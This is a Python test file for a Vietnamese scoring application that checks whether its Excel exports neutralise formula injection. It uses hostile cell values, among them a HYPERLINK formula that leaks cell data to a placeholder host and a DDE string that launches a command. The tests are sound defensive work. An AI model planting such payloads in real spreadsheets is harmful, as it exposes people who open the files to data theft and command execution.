"""Formula injection: in every workbook the app exports, a string starting with `=`, `+`, `-`
or `@` is a text cell that reads back unchanged; numbers stay numbers (`thidua.xlsx.save`)."""

import io

import openpyxl
import pytest

from thidua.org.models import Unit
from thidua.scoring import selectors
from thidua.scoring.models import Agreement, Criterion

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm để xem")'
PHONE = "+84 912 345 678"
DASH = "-Chấm theo biên bản kiểm tra chéo"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = (HYPERLINK, PHONE, DASH, AT)


def _workbook(response):
    assert response.status_code == 200, response.status_code
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet, cell


def _assert_text(workbook, expected):
    """Each string in `expected` is in the workbook, unchanged, as a text cell (quote-prefixed
    so that Excel keeps it text when it is edited); nothing is a formula."""
    found = {}
    for sheet, cell in _cells(workbook):
        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s", (sheet.title, cell.coordinate)
            assert cell.quotePrefix, (sheet.title, cell.coordinate)
        if cell.value in expected:
            found[cell.value] = cell
    assert set(found) == set(expected)
    for cell in found.values():
        assert cell.data_type == "s"


def _import_agreement(client, workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = client.post(
        "/clusters/cum-2/2021/agreement/import/", {"file": io.BytesIO(buffer.getvalue())}
    )
    assert response.status_code == 302


def test_agreement_export_keeps_dangerous_text_as_text(cycle, client_for):
    """A hostile table comes in through the import page (formulas typed in its cells); the
    export of the same agreement gives them back as text, and importing that file again keeps
    them unchanged. Points and targets stay numbers (−5 included)."""
    secretary = client_for("laocai.thuky")
    source = _workbook(secretary.get("/clusters/cum-2/2020/agreement/export.xlsx"))
    table = source["Tiêu chí"]
    rows = {table[f"A{row}"].value: row for row in range(4, table.max_row + 1)}
    table[f"C{rows['I.1']}"] = HYPERLINK  # openpyxl writes this one as a formula
    table[f"C{rows['I.2']}"] = PHONE
    table[f"C{rows['I.3']}"] = DASH
    table[f"J{rows['II.1']}"] = AT
    _import_agreement(secretary, source)
    agreement = Agreement.objects.get(cycle=cycle("cum-2", 2021))
    names = dict(agreement.criteria.values_list("code", "name"))
    assert (names["I.1"], names["I.2"], names["I.3"]) == (HYPERLINK, PHONE, DASH)

    exported = _workbook(secretary.get("/clusters/cum-2/2021/agreement/export.xlsx"))
    _assert_text(exported, DANGEROUS)
    table = exported["Tiêu chí"]
    rows = {table[f"A{row}"].value: row for row in range(4, table.max_row + 1)}
    assert table[f"C{rows['I.1']}"].value == HYPERLINK
    for code, column, value in (("V", "E", 5), ("V", "F", -5), ("II.1", "E", 12)):
        cell = table[f"{column}{rows[code]}"]
        assert (cell.value, cell.data_type) == (value, "n"), (code, column)
    targets = exported["Chỉ tiêu giao"]
    target = next(
        targets.cell(row=row, column=3)
        for row in range(4, targets.max_row + 1)
        if targets[f"A{row}"].value == "son-la"
    )
    assert (target.value, target.data_type) == (75, "n")

    _import_agreement(secretary, exported)  # the exported file, imported again as it is
    names = dict(
        Agreement.objects.get(cycle=cycle("cum-2", 2021)).criteria.values_list("code", "name")
    )
    guidance = Criterion.objects.get(agreement__cycle=cycle("cum-2", 2021), code="II.1").guidance
    assert (names["I.1"], names["I.2"], names["I.3"], guidance) == (HYPERLINK, PHONE, DASH, AT)


@pytest.fixture
def hostile_names(cycle):
    """A unit and criteria of the 2020 cycle named like formulas."""
    current = cycle("cum-2", 2020)
    Unit.objects.filter(code="lai-chau").update(name=HYPERLINK)
    criteria = Criterion.objects.filter(agreement__cycle=current)
    criteria.filter(code="I.1").update(name=PHONE)
    criteria.filter(code="II").update(name=DASH)
    criteria.filter(code="IV.2").update(name=AT)
    return current


def test_results_export_keeps_dangerous_text_as_text(hostile_names, client_for):
    workbook = _workbook(client_for("sonla.canbo").get("/clusters/cum-2/2020/results/export.xlsx"))
    _assert_text(workbook, (HYPERLINK, "I.1. " + PHONE, "II. " + DASH, "IV.2. " + AT))
    results = selectors.results(hostile_names)
    summary = workbook["Tổng hợp"]
    header = next(r for r in range(1, summary.max_row + 1) if summary[f"A{r}"].value == "Xếp hạng")
    lai_chau = next(
        row
        for row in summary.iter_rows(min_row=header + 1)
        if row[1].value == HYPERLINK and row[1].data_type == "s"
    )
    total = {unit.code: result.total for unit, result in results.ranking}["lai-chau"]
    assert lai_chau[0].data_type == "n"
    total_cell = lai_chau[2 + len(results.sections)]
    assert (total_cell.data_type, total_cell.value) == ("n", pytest.approx(float(total)))
    points = lai_chau[2 + len(results.sections) - 1]  # V: −1, a negative number
    assert (points.data_type, points.value) == ("n", -1)


def test_document_score_table_keeps_dangerous_text_as_text(hostile_names):
    from thidua.documents import builders

    plan = next(p for p in builders.plans(hostile_names) if p.key == "score-table")
    workbook = openpyxl.load_workbook(io.BytesIO(plan.build().content))
    _assert_text(workbook, (HYPERLINK, "I.1. " + PHONE, "II. " + DASH, "IV.2. " + AT))


def test_statistics_exports_keep_dangerous_text_as_text(hostile_names, client_for):
    client = client_for("laocai.thuky")
    table = _workbook(client.get("/clusters/cum-2/2020/stats/export.xlsx"))
    _assert_text(table, (HYPERLINK,))
    figures = table["Số liệu"]
    row = next(r for r in figures.iter_rows(min_row=4) if r[0].value == HYPERLINK)
    assert all(cell.data_type == "n" for cell in row[1:] if cell.value is not None)
    assert isinstance(row[1].value, int | float)
    template = _workbook(client.get("/clusters/cum-2/2020/stats/template.xlsx?filled=1"))
    _assert_text(template, (HYPERLINK,))
    sheet = next(s for s in template.worksheets if s["B3"].value == HYPERLINK)
    figure = sheet["D8"]
    assert (figure.data_type, isinstance(figure.value, int | float)) == ("n", True)
